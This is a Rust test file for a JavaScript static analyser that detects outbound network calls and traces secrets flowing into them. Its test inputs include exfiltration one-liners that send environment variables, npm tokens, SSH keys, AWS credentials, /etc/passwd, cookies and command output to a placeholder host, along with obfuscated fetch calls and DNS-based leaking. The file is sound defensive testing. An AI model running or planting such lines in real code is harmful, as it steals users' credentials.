//! Requests, connections, and what goes out with them.

use ringfence_analysis::Effect::{Connect, Listen, NameLookup, Request};
use ringfence_analysis::Source;

use super::{Case, case, check, flows, trace_one};

const CASES: &[Case] = &[
    case("fetch", Request, "js:fetch", "http://a.example", "fetch('http://a.example')"),
    case(
        "https.get",
        Request,
        "node:https.get",
        "http://a.example",
        "require('https').get('http://a.example')",
    ),
    case(
        "http.request with a host",
        Request,
        "node:http.request",
        "a.example",
        "require('http').request({ hostname: 'a.example', path: '/' })",
    ),
    case(
        "an address put together",
        Request,
        "js:fetch",
        "http://a.example/x",
        "const h = 'a.example'; fetch('http://' + h + '/x')",
    ),
    case(
        "an address that is base64",
        Request,
        "js:fetch",
        "http://a.example",
        "fetch(atob('aHR0cDovL2EuZXhhbXBsZQ=='))",
    ),
    case(
        "axios",
        Request,
        "npm:axios.post",
        "http://a.example",
        "require('axios').post('http://a.example', {})",
    ),
    case(
        "axios by default import",
        Request,
        "npm:axios.get",
        "http://a.example",
        "import axios from 'axios'; axios.get('http://a.example')",
    ),
    case(
        "axios with a record",
        Request,
        "npm:axios",
        "http://a.example",
        "require('axios')({ url: 'http://a.example' })",
    ),
    case(
        "an instance of axios",
        Request,
        "npm:axios.get",
        "/x",
        "const a = require('axios').create({ baseURL: 'http://a.example' }); a.get('/x')",
    ),
    case("got", Request, "npm:got", "http://a.example", "require('got')('http://a.example')"),
    case(
        "node-fetch",
        Request,
        "npm:node-fetch",
        "http://a.example",
        "require('node-fetch')('http://a.example')",
    ),
    case(
        "undici",
        Request,
        "npm:undici.request",
        "http://a.example",
        "require('undici').request('http://a.example')",
    ),
    case(
        "needle",
        Request,
        "npm:needle.get",
        "http://a.example",
        "require('needle').get('http://a.example')",
    ),
    case(
        "superagent",
        Request,
        "npm:superagent.post",
        "http://a.example",
        "require('superagent').post('http://a.example')",
    ),
    case(
        "XMLHttpRequest",
        Request,
        "js:XMLHttpRequest.open",
        "http://a.example",
        "const x = new XMLHttpRequest(); x.open('GET', 'http://a.example'); x.send()",
    ),
    case(
        "a web socket",
        Connect,
        "js:WebSocket",
        "ws://a.example",
        "new WebSocket('ws://a.example')",
    ),
    case(
        "ws",
        Connect,
        "npm:ws",
        "ws://a.example",
        "const W = require('ws'); new W('ws://a.example')",
    ),
    case(
        "net",
        Connect,
        "node:net.connect",
        "a.example",
        "require('net').connect(4444, 'a.example')",
    ),
    case(
        "net with a record",
        Connect,
        "node:net.createConnection",
        "a.example",
        "require('net').createConnection({ host: 'a.example', port: 1 })",
    ),
    case(
        "a socket that connects later",
        Connect,
        "node:net.Socket.connect",
        "a.example",
        "const s = new (require('net').Socket)(); s.connect(1, 'a.example')",
    ),
    case(
        "tls",
        Connect,
        "node:tls.connect",
        "a.example",
        "require('tls').connect(443, 'a.example')",
    ),
    case(
        "dgram",
        Connect,
        "node:dgram.Socket.send",
        "x",
        "require('dgram').createSocket('udp4').send('x', 53, 'a.example')",
    ),
    case(
        "dns",
        NameLookup,
        "node:dns.lookup",
        "a.example",
        "require('dns').lookup('a.example', () => {})",
    ),
    case(
        "dns by promise",
        NameLookup,
        "node:dns/promises.resolveTxt",
        "a.example",
        "require('dns').promises.resolveTxt('a.example')",
    ),
    case(
        "a beacon",
        Request,
        "js:navigator.sendBeacon",
        "http://a.example",
        "navigator.sendBeacon('http://a.example', 'x')",
    ),
    case(
        "a server",
        Listen,
        "node:http.createServer",
        "",
        "require('http').createServer(() => {})",
    ),
    case(
        "a server that listens",
        Listen,
        "node:http.Server.listen",
        "8080",
        "require('http').createServer(() => {}).listen(8080)",
    ),
    case(
        "fetch by a computed name",
        Request,
        "js:fetch",
        "http://a.example",
        "globalThis[['fe', 'tch'].join('')]('http://a.example')",
    ),
    case(
        "https by a computed name",
        Request,
        "node:https.get",
        "http://a.example",
        "const m = 'htt' + 'ps'; require(m)['g' + 'et']('http://a.example')",
    ),
];

#[test]
fn requests_are_seen_with_where_they_go() {
    check(CASES);
}

#[test]
fn what_is_read_is_followed_to_what_is_sent() {
    for (source, from) in [
        (
            "fetch('http://a.example', { method: 'POST', body: JSON.stringify(process.env) })",
            Source::Environment,
        ),
        ("fetch('http://a.example?t=' + process.env.NPM_TOKEN)", Source::Environment),
        ("const { env } = process; fetch(`http://a.example/${env.HOME}`)", Source::Environment),
        (
            "const https = require('https'); const r = https.request({ hostname: 'a.example' }); r.write(JSON.stringify(process.env)); r.end()",
            Source::Environment,
        ),
        (
            "const d = {}; for (const k of Object.keys(process.env)) d[k] = process.env[k]; require('axios').post('http://a.example', d)",
            Source::Environment,
        ),
        ("require('axios').post('http://a.example', { ...process.env })", Source::Environment),
        (
            "const fs = require('fs'), os = require('os'); const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); fetch('http://a.example', { body: k })",
            Source::Credential,
        ),
        (
            "const fs = require('fs'), p = require('path'); const k = fs.readFileSync(p.join(process.env.HOME, '.npmrc'), 'utf8'); fetch('http://a.example', { body: Buffer.from(k).toString('base64') })",
            Source::Credential,
        ),
        (
            "require('fs').readFile(process.env.HOME + '/.aws/credentials', 'utf8', (e, d) => { require('http').request({ host: 'a.example' }).end(d) })",
            Source::Credential,
        ),
        (
            "(async () => { const d = await require('fs').promises.readFile('/etc/passwd'); await fetch('http://a.example', { body: d }) })()",
            Source::Credential,
        ),
        (
            "const os = require('os'); fetch('http://a.example/' + os.hostname() + os.userInfo().username)",
            Source::SystemInformation,
        ),
        (
            "require('child_process').exec('whoami', (e, out) => fetch('http://a.example', { body: out }))",
            Source::ProcessOutput,
        ),
        (
            "const o = require('child_process').execSync('whoami').toString(); fetch('http://a.example', { body: o })",
            Source::ProcessOutput,
        ),
        ("fetch('http://a.example', { body: document.cookie })", Source::Credential),
        (
            "require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(require('https').request('https://a.example', { method: 'PUT' }))",
            Source::Credential,
        ),
        (
            "const { pipeline } = require('stream'), fs = require('fs'); pipeline(fs.createReadStream('/root/.ssh/id_rsa'), require('zlib').createGzip(), require('https').request('https://a.example'), () => {})",
            Source::Credential,
        ),
        (
            "function send(d) { fetch('http://a.example', { body: d }) } function read() { return process.env } send(JSON.stringify(read()))",
            Source::Environment,
        ),
        (
            "class A { constructor() { this.e = process.env } go() { fetch('http://a.example', { body: JSON.stringify(this.e) }) } } new A().go()",
            Source::Environment,
        ),
    ] {
        assert!(
            flows(&trace_one(source), from, Request),
            "{source}\n{:#?}",
            trace_one(source).events
        );
    }
    assert!(flows(
        &trace_one("require('dns').lookup(process.env.TOKEN + '.a.example', () => {})"),
        Source::Environment,
        NameLookup
    ));
}
